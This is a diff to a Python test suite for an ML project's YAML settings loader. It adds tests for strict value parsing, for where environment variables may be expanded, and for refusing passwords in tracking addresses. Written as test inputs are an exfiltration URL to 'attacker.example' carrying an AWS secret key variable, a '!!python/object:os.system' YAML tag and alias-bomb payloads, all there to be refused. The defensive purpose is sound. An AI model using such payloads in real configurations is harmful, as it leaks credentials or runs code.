@@ -4,6 +4,7 @@ import contextlib
 import os
 import string
 from contextlib import AbstractContextManager, nullcontext
+from itertools import pairwise
 from pathlib import Path
 from typing import Any
 
@@ -14,6 +15,7 @@ from hypothesis import strategies as st
 
 from fewshot.config.load import builtin_config, dump_settings, load_settings, parse_settings
 from fewshot.config.tree import RunSettings
+from fewshot.config.yaml_text import dump_yaml, parse_yaml
 from fewshot.errors import InputError
 
 CONFIGS = sorted((Path(__file__).parents[2] / "configs").glob("*.yaml"))
@@ -132,7 +134,7 @@ _trees = st.fixed_dictionaries(
 @settings(deadline=None, max_examples=60)
 def test_what_is_dumped_is_loaded(tree: dict[str, Any]) -> None:
     first = parse_settings(tree)
-    assert parse_settings(yaml.safe_load(dump_settings(first))) == first
+    assert parse_settings(parse_yaml(dump_settings(first))) == first
 
 
 # Overrides
@@ -151,7 +153,7 @@ def test_what_is_dumped_is_loaded(tree: dict[str, Any]) -> None:
         ("radiologists.fine.name=last", "radiologists.2.name", "last"),
         ("radiologists.1={name: one}", "radiologists.1.name", "one"),
         ("radiologists=[{name: lone}]", "radiologists.0.name", "lone"),
-        # YAML has no number in 1e-3, and a switch in off.
+        # YAML 1.1 has no number in 1e-3, and a switch in off.
         ("final.learning_rate=1e-3", "final.learning_rate", 0.001),
         ("detector.mixed_precision=off", "detector.mixed_precision", "off"),
         ("detector.weights=none", "detector.weights", "none"),
@@ -214,7 +216,8 @@ def test_an_override_of_an_aliased_part_changes_that_part_only(tmp_path: Path) -
         ("data..phantom=3", refused("unknown key")),
         ("data=", refused("data: ")),
         ("data={1: 2}", refused("keys should be strings")),
-        ("seed=yes", refused("seed: is no switch")),
+        ("seed=true", refused("seed: is no switch")),
+        ("seed=yes", refused("seed: input should be a valid integer")),
     ],
 )
 def test_wrong_overrides(override: str, raises: AbstractContextManager[Any]) -> None:
@@ -378,9 +381,138 @@ def test_environment_variables(
         )
 
 
-def test_numbers_come_from_the_environment_too(monkeypatch: pytest.MonkeyPatch) -> None:
+@pytest.mark.parametrize(
+    "tree",
+    [
+        {"live": {"mlflow": "http://attacker.example/${AWS_SECRET_ACCESS_KEY}"}},
+        {"final": {"iterations": "${FEWSHOT_TEST}"}},
+        {"detector": {"options": ["A.B", "${FEWSHOT_TEST}"]}},
+        {"detector": {"architecture": "${FEWSHOT_NONE:-tiny}"}},
+    ],
+)
+def test_no_variable_goes_anywhere_but_into_paths(
+    tree: dict[str, Any], monkeypatch: pytest.MonkeyPatch
+) -> None:
     monkeypatch.setenv("FEWSHOT_TEST", "7")
-    assert (
-        parse_settings({**PHANTOM, "final": {"iterations": "${FEWSHOT_TEST}"}}).final.iterations
-        == 7
+    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "wJalrXUtnFEMI")
+    with refused("environment variables are read in the paths of data and weights alone") as caught:
+        parse_settings({**PHANTOM, **tree})
+    assert "wJalr" not in str(caught.value)
+
+
+def test_the_paths_of_data_come_from_the_environment(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("FEWSHOT_TEST", "here")
+    files = {key: f"${{FEWSHOT_TEST}}/{key}" for key in ("train_images", "train_labels")}
+    tree = {"data": {**files, "test_images": "${FEWSHOT_NONE:-there}"}}
+    assert parse_settings(tree).data.train_images == Path("here/train_images")
+    assert parse_settings(tree).data.test_images == Path("there")
+
+
+@pytest.mark.parametrize(
+    ("address", "words"),
+    [
+        ("http://alice:s3cr3t@host:5000", "MLFLOW_TRACKING_PASSWORD"),
+        ("https://s3cr3t@host", "MLFLOW_TRACKING_PASSWORD"),
+        ("postgresql://host/db?password=s3cr3t", "MLFLOW_TRACKING_PASSWORD"),
+    ],
+)
+def test_passwords_in_addresses_are_refused_and_not_repeated(address: str, words: str) -> None:
+    with refused(words) as caught:
+        parse_settings({**PHANTOM, "live": {"mlflow": address}})
+    assert "s3cr3t" not in str(caught.value)
+    assert "\n" not in str(caught.value)
+
+
+# Values as they are written
+
+
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        # Not what YAML 1.1 makes of them: 8, 90, True, False, a date, 1000, 255.
+        ("010", "010"),
+        ("1:30", "1:30"),
+        ("on", "on"),
+        ("No", "No"),
+        ("2024-01-02", "2024-01-02"),
+        ("1_000", "1_000"),
+        ("0xff", "0xff"),
+        # What is a number to a reader.
+        ("0", 0),
+        ("-17", -17),
+        ("1e-3", 0.001),
+        (".5", 0.5),
+        ("3.", 3.0),
+        ("true", True),
+        ("null", None),
+        ("~", None),
+        ("", None),
+        ("'010'", "010"),
+        ("[a, 1, {b: 2.5}]", ["a", 1, {"b": 2.5}]),
+        ("!!str 5", "5"),
+    ],
+)
+def test_plain_values(text: str, expected: Any) -> None:
+    found = parse_yaml(text)
+    assert found == expected
+    assert type(found) is type(expected)
+
+
+@pytest.mark.parametrize(
+    ("override", "key", "expected"),
+    [
+        ("seed=010", "seed", 10),  # as written, in decimal
+        ("augmentation.flip=off", "augmentation.flip", False),
+        ("final.learning_rate=1e-3", "final.learning_rate", 0.001),
+    ],
+)
+def test_values_are_taken_as_they_are_written(override: str, key: str, expected: Any) -> None:
+    assert at(parse_settings(PHANTOM, [override]), key) == expected
+
+
+@pytest.mark.parametrize("override", ["seed=1:30", "seed=0x10", "final.iterations=2024-01-02"])
+def test_what_is_no_number_in_decimal_is_refused(override: str) -> None:
+    with refused("valid integer"):
+        parse_settings(PHANTOM, [override])
+
+
+@given(
+    st.recursive(
+        st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(),
+        lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(), inner, max_size=3),
+        max_leaves=8,
     )
+)
+@settings(deadline=None, max_examples=100)
+def test_what_is_written_is_read_by_us_and_by_any_yaml(value: Any) -> None:
+    text = dump_yaml(value)
+    assert parse_yaml(text) == value
+    assert yaml.safe_load(text) == value
+
+
+@pytest.mark.parametrize(
+    ("text", "words"),
+    [
+        ("a: 1\nb: 2\na: 3", "line 3: 'a' is given twice"),
+        ("a: 1\nb: &x {c: *x}", "line 2: a value holds itself"),
+        (
+            "a: &a [1,2,3,4]\n"
+            + "".join(f"{x}: &{x} [*{y},*{y},*{y},*{y},*{y}]\n" for y, x in pairwise("abcdefg")),
+            "stands for more than 10000 values",
+        ),
+        ("a: 1\n? [b]\n: 2", "line 2: a key must be a word"),
+        ("- 1\n- !!python/object:os.system x", "line 2: could not determine a constructor"),
+        ("a: [1\n", "line 2: "),
+        ("[" + "1," * 10_000 + "1]", "more than 10000 values"),
+        ("x" * (1 << 21), "longer than"),
+    ],
+)
+def test_what_is_wrong_is_said_with_its_line(text: str, words: str) -> None:
+    with pytest.raises(ValueError, match=words):
+        parse_yaml(text)
+
+
+def test_a_pipe_is_no_settings_file(tmp_path: Path) -> None:
+    os.mkfifo(tmp_path / "run.yaml")
+    with refused("is no file but a pipe"):
+        load_settings(tmp_path / "run.yaml")
